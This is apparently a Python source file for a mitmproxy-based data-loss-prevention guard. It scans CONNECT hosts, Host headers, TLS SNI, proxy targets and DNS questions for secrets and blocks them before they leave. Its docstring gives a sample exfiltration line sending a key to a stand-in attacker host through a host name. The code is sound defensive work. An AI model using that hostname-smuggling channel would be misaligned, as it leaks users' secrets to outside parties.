"""The blocking DLP scan of the names a connection is opened for, before anything is opened or looked up.

A secret can ride in a host name: `CONNECT <key>.attacker.example:443` (mitmproxy connects, and looks
the name up, when the tunnel opens, before any request inside it is scanned), an absolute-form request's
host or Host header / HTTP/2 `:authority` (failcore's own `network.block_private_resolved` lookup runs
at requestheaders, before the request scan), a TLS SNI (mitmproxy offers the client's SNI to the
upstream), a SOCKS5 or upstream-proxy target (connected at once), or a DNS question (`--contain`,
mitmproxy's dns modes). Each is scanned here in every spelling a secret may hide in (as written,
upper-cased, without its dots: `host_spellings`), and a hit whose action is BLOCK refuses the tunnel,
the request, the connection or the query, or keeps the name out of the upstream handshake, before it
can leave. This concern runs right after the policy gate and before the resolved-address guard. The
evidence masks the same names (failcore.evidence.dlp); the request scan (DlpGuard) still scans the host
with everything else.
"""

from __future__ import annotations

import asyncio
import logging
import time
from collections.abc import Awaitable, Callable
from dataclasses import replace
from typing import Any

from mitmproxy import ctx, dns, http, tls
from mitmproxy.net.dns import response_codes
from mitmproxy.net.dns import types as dns_types
from mitmproxy.proxy import server_hooks

from failcore.dlp import Hit
from failcore.dlp.pending import engine_ready
from failcore.dlp.scanner import DlpScanner
from failcore.event import EgressEvent, Target
from failcore.evidence.dlp import host_hits
from failcore.policy.model import Decision
from failcore.proxy.dlpguard import CleanScans, block_decision
from failcore.proxy.failclosed import withhold_sni
from failcore.proxy.gate import blocked_response, decision_host, stricter
from failcore.proxy.guard import guarded
from failcore.proxy.session import Fronted, Session, answer
from failcore.wiretext import wire_text

logger = logging.getLogger(__name__)


def target_names(flow: http.HTTPFlow) -> list[str]:
    """The names mitmproxy or failcore may look up, offer or forward for this request: its host, the
    name decisions use (an IP target's TLS SNI) and its Host header or HTTP/2 `:authority`."""
    names = [flow.request.host, decision_host(flow), flow.request.host_header or ""]
    return [wire_text(name) for name in dict.fromkeys(names) if name]


def names_hits(
    scanner: DlpScanner, names: list[str], where: str, clean: CleanScans | None = None
) -> list[Hit]:
    """The hits in these names, located at `where` (a refusal's reason says where the secret was).
    With `clean`, a name found clean before is not scanned again."""
    engine = scanner.engine
    found = [
        hit
        for name in names
        if name
        for hit in (clean.scan(("host", name), host_hits, engine, name) if clean else host_hits(engine, name))
    ]
    return [replace(hit, location=where) for hit in found]


class HostDlpGuard:
    def __init__(self, session: Session) -> None:
        self.session = session
        self._clean: CleanScans | None = None

    def _blocking_scanner(self) -> DlpScanner | None:
        scanner = self.session.dlp
        if scanner is None or not scanner.can_block or not scanner.settings.scan_request:
            return None
        return scanner

    def idle_hooks(self) -> frozenset[str]:
        """What does nothing without a DLP rule that can block, and without enforcing it
        (failcore.proxy.dispatch; the DNS hook, which `running` wraps around the resolver, is left)."""
        scanner = self._blocking_scanner()
        if scanner is None:
            return frozenset({"requestheaders", "http_connect", "tls_clienthello", "server_connect"})
        return frozenset() if scanner.enforce else frozenset({"requestheaders", "server_connect"})

    def _when_ready(
        self, scanner: DlpScanner, names: list[str], where: str, then: Callable[[list[Hit]], None]
    ) -> Awaitable[None] | None:
        """`then(hits)` at once, or off the loop once the rules have compiled (just after start-up).
        The names an agent connects to repeat: one found clean by this scanner is not scanned again."""
        if engine_ready(scanner.engine):
            if self._clean is None or self._clean.scanner is not scanner:
                self._clean = CleanScans(scanner)
            then(names_hits(scanner, names, where, self._clean))
            return None

        async def later() -> None:
            then(await asyncio.to_thread(names_hits, scanner, names, where))

        return later()

    @guarded("hostdlp.http_connect")
    def http_connect(self, flow: http.HTTPFlow) -> Awaitable[None] | None:
        scanner = self._blocking_scanner()
        if scanner is None or flow.response is not None:
            return None

        def decide(hits: list[Hit]) -> None:
            state = self.session.state(flow)
            verdict = block_decision(scanner, hits, state.decision)
            if verdict is None:
                return
            state.decision = verdict
            if verdict.decision == "BLOCK":
                state.decided_host = flow.request.host
                state.blocked = True
                answer(flow, blocked_response(verdict, flow.id))

        return self._when_ready(scanner, [flow.request.host], "CONNECT host", decide)

    @guarded("hostdlp.requestheaders")
    def requestheaders(self, flow: http.HTTPFlow) -> Awaitable[None] | None:
        """Only a BLOCK is decided here (the gate's `request` answers it, nothing is looked up or
        streamed meanwhile); a would-block in observe mode is left to the request scan."""
        scanner = self._blocking_scanner()
        if scanner is None or not scanner.enforce or flow.response is not None:
            return None
        state = self.session.flows.get(flow.id)
        if state is not None and state.decision is not None and state.decision.decision == "BLOCK":
            return None
        names = target_names(flow)
        clean = self._clean
        if clean is not None and clean.scanner is scanner and all(clean.known(("host", n)) for n in names):
            return None  # each found clean by this scanner before: names_hits would find nothing

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is None or verdict.decision != "BLOCK":
                return
            state = self.session.state(flow)
            state.decision = verdict if state.decision is None else stricter(state.decision, verdict)

        return self._when_ready(scanner, names, "target host", decide)

    @guarded("hostdlp.tls_clienthello")
    def tls_clienthello(self, data: tls.ClientHelloData) -> Awaitable[None] | None:
        """A secret in the SNI: on a BLOCK the upstream handshake names the connection's own target
        (a tunnel's or reverse proxy's host; an address, which is sent as no name at all) and every
        request on the connection is refused. The warning on the tape names the rule, not the SNI."""
        scanner = self._blocking_scanner()
        sni = data.client_hello.sni
        if scanner is None or not sni:
            return None

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is None:
                return
            server, client = data.context.server, data.context.client
            blocked = verdict.decision == "BLOCK"
            said = f"the TLS SNI holds a secret ({verdict.rule})"
            if blocked:
                sent = withhold_sni(server)
                said += f": the upstream handshake names {sent!r}" if sent else ""
                logger.warning(
                    "failcore: kept a TLS SNI holding a secret from the upstream (%s)", verdict.rule
                )
            # The gate's SNI-mismatch warning quotes the SNI: this one, which does not, replaces it.
            earlier = self.session.fronted.get(client.id)
            if earlier is not None:
                blocked = blocked or earlier.blocked
                if earlier.decision.decision == "BLOCK" and verdict.decision != "BLOCK":
                    verdict = earlier.decision
            warning = {"reason": "dlp", "message": said}
            self.session.fronted[client.id] = Fronted(verdict, warning, blocked=blocked)

        return self._when_ready(scanner, [sni], "TLS SNI", decide)

    @guarded("hostdlp.server_connect")
    def server_connect(self, data: server_hooks.ServerConnectionHookData) -> Awaitable[None] | None:
        """The last word before mitmproxy looks a name up and connects, whatever brought it there
        (a SOCKS5 or upstream-proxy target, a reverse proxy's, a tunnel's): a destination name or SNI
        with a BLOCK hit kills the connection before it is opened."""
        scanner = self._blocking_scanner()
        server = data.server
        if scanner is None or not scanner.enforce or server.error:
            return None
        names = [str(server.address[0])] if server.address is not None else []
        if server.sni:
            names.append(server.sni)
        if not names:
            return None

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is not None and verdict.decision == "BLOCK":
                server.error = f"failcore refused the connection: {verdict.reason}"

        return self._when_ready(scanner, names, "destination", decide)

    def running(self) -> None:
        """mitmproxy's own resolver (a built-in addon, so it runs before failcore) answers A and AAAA
        questions by looking the name up: failcore's scan of the question is put in front of it."""
        resolver = ctx.master.addons.get("dnsresolver")
        if resolver is None or hasattr(resolver.dns_request, "__wrapped__"):
            return
        resolve = resolver.dns_request

        async def scan_then_resolve(flow: dns.DNSFlow) -> None:
            pending = self.dns_request(flow)
            if pending is not None:
                await pending
            await resolve(flow)  # it leaves a flow alone once failcore has answered it

        scan_then_resolve.__wrapped__ = resolve  # type: ignore[attr-defined]
        resolver.dns_request = scan_then_resolve

    @guarded("hostdlp.dns_request")
    def dns_request(self, flow: dns.DNSFlow) -> Awaitable[None] | None:
        """DNS through failcore (`failcore run --contain`, mitmproxy's dns modes): a question whose name
        holds a secret is answered REFUSED, never forwarded to a name server, and recorded."""
        scanner = self._blocking_scanner()
        if scanner is None or not scanner.enforce or flow.response is not None:
            return None
        names = [q.name for q in flow.request.questions if q.name]
        if not names:
            return None

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is None or verdict.decision != "BLOCK":
                return
            flow.response = flow.request.fail(response_codes.REFUSED)
            self.session.record(refused_lookup_event(self.session.run_id, flow, verdict))

        return self._when_ready(scanner, names, "DNS question", decide)


def refused_lookup_event(run_id: str, flow: dns.DNSFlow, verdict: Decision) -> dict[str, Any]:
    """A DNS query failcore answered REFUSED: where it was sent, never the name it asked about."""
    address = flow.server_conn.address or flow.client_conn.sockname
    host, port = (str(address[0]), int(address[1])) if address else ("", 53)
    types = ", ".join(dict.fromkeys(dns_types.to_str(q.type) for q in flow.request.questions))
    now = time.time()
    return EgressEvent(
        kind="network",
        run=run_id,
        ts_start=now,
        ts_end=now,
        flow=flow.id,
        action="ip.packet",
        target=Target(host, port, "udp"),
        path="",
        summary=f"DNS {types} query refused: its name holds a secret",
        decision="BLOCK",
        rule=verdict.rule,
        reason=verdict.reason,
        would_block=True,
        outcome="BLOCKED",
        detail={"protocol": "dns"},
    ).to_dict()
